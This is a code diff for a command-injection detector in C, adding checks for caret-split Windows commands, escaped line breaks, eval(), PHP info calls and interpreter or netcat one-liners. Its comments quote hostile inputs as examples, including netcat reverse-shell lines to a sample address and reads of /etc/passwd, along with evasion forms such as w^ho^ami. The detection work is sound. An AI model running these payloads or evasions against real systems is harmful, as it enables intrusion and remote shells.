@@ -15,7 +15,12 @@
  * expansions (${PATH:0:1}), globs standing for a binary folder (/???/c?t), brace expansion
  * ({cat,/etc/passwd}), process substitution (<(id)). Windows commands are recognised in any case.
  * The process functions of scripting languages (PHP, Python, Node.js, Java, Ruby, .NET) and web
- * shells written to a file by redirection are reported too.
+ * shells written to a file by redirection are reported too. So are cmd.exe's escape carets
+ * inside a name (w^ho^ami, DOSfuscation), line breaks written out as "\n" or "\r" before a
+ * command, a whole value that runs an interpreter or netcat with a script, a path or an address,
+ * eval() handed a shell command, PHP's information functions called as statements, and the
+ * forms of webattack_cmdi_forms.c that need no command name (Shellshock definitions, PHP's
+ * complex syntax, a command stored in a variable and run from it).
  *
  * Sources of the word lists: the POSIX utilities and the shell command language (IEEE Std
  * 1003.1-2017, XCU), GNU coreutils, inetutils and net-tools manuals, bash(1) for expansions and
@@ -28,6 +33,7 @@
 #include <strings.h>
 
 #include "engine/webattack/webattack.h"
+#include "engine/webattack/webattack_cmdi_forms.h"
 
 static bool is_lower(unsigned char c)
 {
@@ -252,7 +258,7 @@ static bool windows_command(const char *w, size_t l, bool title, const char *s, 
         /* ver and dir alone: the whole command, up to the end or the next separator */
         size_t k = skip_blanks(s, n, e);
         if (l != 3 || (memcmp(w, "ver", 3) != 0 && memcmp(w, "dir", 3) != 0) || k >= n ||
-            strchr("&|;#:\r\n", s[k]))
+            strchr("&|;#:\r\n`)", s[k]))
             return true;
     }
     if (in_list(w, l, win_switch, sizeof win_switch / sizeof win_switch[0]) &&
@@ -283,10 +289,15 @@ static bool word_byte(unsigned char c)
     return is_lower(c) || is_digit(c) || c == '.' || c == '_' || c == '-';
 }
 
-/* Length of a splitter inside a word at s[i] ('' "" 'x' \x ${x} $@), 0 when none. */
+/*
+ * Length of a splitter inside a word at s[i] ('' "" 'x' \x ${x} $@), 0 when none. cmd.exe's
+ * escape character '^' is dropped before a letter anywhere in a word ("^ping", "w^ho^ami").
+ */
 static size_t splitter(const char *s, size_t n, size_t i, bool inside)
 {
     char c = s[i];
+    if (c == '^' && i + 1 < n && ((s[i + 1] | 0x20) >= 'a' && (s[i + 1] | 0x20) <= 'z'))
+        return 1;
     if ((c == '\'' || c == '"') && i + 1 < n) {
         size_t j = i + 1;
         while (j < n && j < i + 8 && is_lower((unsigned char)s[j]))
@@ -295,8 +306,12 @@ static size_t splitter(const char *s, size_t n, size_t i, bool inside)
             return 1; /* drop the quote; the letters are read next */
         return 0;
     }
-    if (c == '\\' && inside && i + 1 < n && is_lower((unsigned char)s[i + 1]))
-        return 1;
+    if (c == '\\' && inside && i + 1 < n && is_lower((unsigned char)s[i + 1])) {
+        /* "whoami\n": a written-out line break ends the word (see escaped_break) */
+        bool brk = (s[i + 1] == 'n' || s[i + 1] == 'r') &&
+                   (i + 2 >= n || !is_lower((unsigned char)s[i + 2]));
+        return brk ? 0 : 1;
+    }
     if (c == '$' && inside && i + 1 < n) {
         if (s[i + 1] == '@')
             return 2;
@@ -405,6 +420,15 @@ static bool recon_line(const char *s, size_t n)
     return true;
 }
 
+/*
+ * "\n" or "\r" written out (a backslash and the letter) where a line break stands in payload
+ * lists: echo -e, printf and many template and logging layers turn it into one.
+ */
+static bool escaped_break(const char *s, size_t n, size_t i)
+{
+    return i + 1 < n && s[i] == '\\' && (s[i + 1] == 'n' || s[i + 1] == 'r');
+}
+
 /* A command starting at s[i] (after a separator when sep). */
 static bool command_at(const char *s, size_t n, size_t i, bool sep)
 {
@@ -429,7 +453,7 @@ static bool command_at(const char *s, size_t n, size_t i, bool sep)
     char after = e < n ? s[e] : 0;
     bool boundary = after == 0 || is_space((unsigned char)after) ||
                     strchr(";|&`)'\"\n\r<>#}", after) || (after == ',' && brace) ||
-                    (after == '$' && ifs_at(s, n, e));
+                    (after == '$' && ifs_at(s, n, e)) || escaped_break(s, n, e);
     if (!boundary)
         return false;
     /* {cat,/etc/passwd}: brace expansion spells a command and its arguments */
@@ -440,7 +464,9 @@ static bool command_at(const char *s, size_t n, size_t i, bool sep)
         return any_list(cw.w, cw.l);
     if (cw.exact && sep && in_list(cw.w, cw.l, probes, sizeof probes / sizeof probes[0]))
         return true;
-    if (cw.exact && in_list(cw.w, cw.l, with_arg, sizeof with_arg / sizeof with_arg[0]) &&
+    /* a split name ("^ping", "c''at") is evasion: with an argument of the right shape it runs */
+    if ((cw.exact || cw.split) &&
+        in_list(cw.w, cw.l, with_arg, sizeof with_arg / sizeof with_arg[0]) &&
         (argument_shape(s, n, e) || ifs_at(s, n, e)))
         return true;
     if (cw.exact && !sep && fetch_at_start(cw.w, cw.l, s, n, e))
@@ -496,11 +522,12 @@ static bool substring_expansion(const char *s, size_t n, size_t i)
 struct fn {
     const char *s;
     size_t n;
-    bool strict; /* needs a string or variable argument and no identifier before it */
+    bool strict;  /* needs a string or variable argument and no identifier before it */
+    bool command; /* strict, and the string holds a shell command (eval runs its own language) */
 };
 #define FN(x, st)                                                                                  \
     {                                                                                              \
-        x, sizeof(x) - 1, st                                                                       \
+        x, sizeof(x) - 1, st, false                                                                \
     }
 
 /*
@@ -520,6 +547,7 @@ static const struct fn process_fns[] = {
     FN("execsync(", false),    FN("spawnsync(", false),
     FN("system(", true),       FN("exec(", true),
     FN("assert(", true),       FN("%x(", false),
+    {"eval(", 5, true, true},
 };
 
 static bool ident_byte(unsigned char c)
@@ -560,6 +588,8 @@ static bool process_function(const char *s, size_t n)
             while (a < n && is_space((unsigned char)s[a]))
                 a++;
             bool arg = a < n && (s[a] == '\'' || s[a] == '"' || s[a] == '$' || s[a] == '`');
+            if (arg && f->command && !(s[a] != '$' && command_at(s, n, a + 1, true)))
+                continue;
             if (arg && (i == 0 || !ident_byte((unsigned char)s[i - 1])))
                 return true;
         }
@@ -618,6 +648,99 @@ static bool script_tag(const char *s, size_t n)
            memmem(s + i, n - i, "eval(", 5) || process_function(s + i, n - i);
 }
 
+/*
+ * PHP's information functions called as a statement of injected code: "phpversion();",
+ * "&php_uname()", "| phpcredits()". Named alone in text ("phpinfo() shows ...") they are words.
+ */
+static bool php_info_call(const char *s, size_t n)
+{
+    static const struct name fns[] = {N("phpinfo("), N("phpversion("), N("php_uname("),
+                                      N("phpcredits(")};
+    for (const char *p = memchr(s, 'p', n); p; p = memchr(p + 1, 'p', (size_t)(s + n - p - 1))) {
+        size_t i = (size_t)(p - s);
+        for (size_t k = 0; k < sizeof fns / sizeof fns[0]; k++) {
+            if (i + fns[k].n > n || memcmp(s + i, fns[k].s, fns[k].n) != 0)
+                continue;
+            size_t b = i;
+            while (b > 0 && is_space((unsigned char)s[b - 1]))
+                b--;
+            bool stmt_before = b == 0 || strchr(";|&{:'\"", s[b - 1]);
+            const char *close = memchr(s + i, ')', n - i);
+            size_t a = close ? skip_blanks(s, n, (size_t)(close - s) + 1) : n;
+            bool stmt_after = close && (a >= n || s[a] == ';' || s[a] == '}' || s[a] == '/');
+            if (stmt_before && stmt_after && (b != 0 || a >= n || s[a] == ';'))
+                return true;
+        }
+    }
+    return false;
+}
+
+/*
+ * A whole value that runs a shell, an interpreter or netcat with options and a script, a path or
+ * an address: "nc -nv 10.0.0.5 9001 -e /bin/sh", "perl -e 'print 1'", "python -c 'import os'".
+ */
+static bool interpreter_line(const char *s, size_t n)
+{
+    static const struct name tools[] = {
+        N("bash"),   N("sh"),   N("zsh"),  N("ksh"),   N("dash"),       N("csh"),     N("tcsh"),
+        N("python"), N("perl"), N("ruby"), N("php"),   N("python3"),    N("python2"), N("lua"),
+        N("nodejs"), N("node"), N("pwsh"), N("tclsh"), N("powershell"), N("busybox"),
+    };
+    /* netcat and telnet also take an address or a port */
+    static const struct name net[] = {N("nc"), N("ncat"), N("netcat"), N("socat"), N("telnet")};
+    struct cword cw;
+    if (!read_word(s, n, 0, &cw) || !cw.exact)
+        return false;
+    bool is_net = in_list(cw.w, cw.l, net, sizeof net / sizeof net[0]);
+    if (!is_net && !in_list(cw.w, cw.l, tools, sizeof tools / sizeof tools[0]))
+        return false;
+    size_t i = skip_blanks(s, n, cw.end);
+    bool option = i > cw.end && i + 1 < n && s[i] == '-' && is_alpha((unsigned char)s[i + 1]);
+    /* "ncat 10.0.0.5 9001 -e /bin/bash": netcat may take its address first, then a shell */
+    if (!option && !(is_net && i > cw.end && i < n && is_digit((unsigned char)s[i]) &&
+                     memmem(s + i, n - i, " /", 2)))
+        return false;
+    for (; i + 1 < n; i++)
+        if (is_space((unsigned char)s[i]) &&
+            (s[i + 1] == '/' || s[i + 1] == '\'' || s[i + 1] == '"' ||
+             (is_net && is_digit((unsigned char)s[i + 1]))))
+            return true;
+    return false;
+}
+
+/* "w^ho^ami", "^net user": a command name cut by cmd.exe carets opens the value. */
+static bool split_name_at_start(const char *s, size_t n)
+{
+    struct cword cw;
+    size_t i = skip_blanks(s, n, 0);
+    if (!read_word(s, n, i, &cw) || !cw.split)
+        return false;
+    size_t e = cw.end;
+    if (e < n && !is_space((unsigned char)s[e]) && !strchr(";|&", s[e]))
+        return false;
+    return any_list(cw.w, cw.l) || windows_command(cw.w, cw.l, false, s, n, e, true);
+}
+
+/* A literal "\n" or "\r" standing for a line break, then a command: "\nuname -a", "\n/usr/bin/id".
+ */
+static bool escaped_break_command(const char *s, size_t n)
+{
+    for (const char *p = memchr(s, '\\', n); p; p = memchr(p + 1, '\\', (size_t)(s + n - p - 1))) {
+        size_t i = (size_t)(p - s);
+        if (!escaped_break(s, n, i))
+            continue;
+        /* "C:\new", "a\nb": a break (or a run of them, "\r\n") follows no letter or drive colon */
+        size_t b = i;
+        while (b >= 2 && escaped_break(s, n, b - 2))
+            b -= 2;
+        if (b > 0 && (is_alpha((unsigned char)s[b - 1]) || s[b - 1] == ':'))
+            continue;
+        if (command_at(s, n, i + 2, true))
+            return true;
+    }
+    return false;
+}
+
 /* "{cat,/etc/passwd}": brace expansion spelling a command and its first argument. */
 static bool brace_command(const char *s, size_t n, size_t i)
 {
@@ -631,11 +754,22 @@ bool tld_cmdi_detect(const char *s, size_t n)
     const char *blank = n < 64 ? memchr(s, ' ', n) : NULL;
     if (blank && blank + 1 < s + n && (blank[1] == '-' || blank[1] == '/') && recon_line(s, n))
         return true;
+    if (memchr(s, '^', n) && split_name_at_start(s, n))
+        return true;
     unsigned m = 0;
     for (size_t i = 0; i < n; i++)
         m |= ci_class[(unsigned char)s[i]];
     if (m == 0)
         return false;
+    if ((m & CI_PAREN) && (tld_cmdi_shellshock(s, n) || php_info_call(s, n)))
+        return true;
+    if ((m & CI_SEP) && memchr(s, '$', n) &&
+        (tld_cmdi_php_complex(s, n) || tld_cmdi_stored_command(s, n)))
+        return true;
+    if ((m & CI_PATH) && escaped_break_command(s, n))
+        return true;
+    if ((m & (CI_PATH | CI_QUOTE)) && interpreter_line(s, n))
+        return true;
     if ((m & CI_PATH) && command_line(s, n))
         return true;
     if (binary_path(s, n, 0))
